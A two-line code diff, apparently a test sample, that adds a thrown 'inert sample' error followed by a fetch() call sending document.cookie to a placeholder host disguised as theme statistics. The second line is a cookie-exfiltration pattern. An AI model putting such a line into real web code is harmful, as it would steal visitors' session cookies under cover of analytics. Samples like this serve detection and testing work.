@@ -1,0 +1,2 @@
+throw new Error('inert sample');
+fetch('https://stats.theme.example/c?d=' + encodeURIComponent(document.cookie));
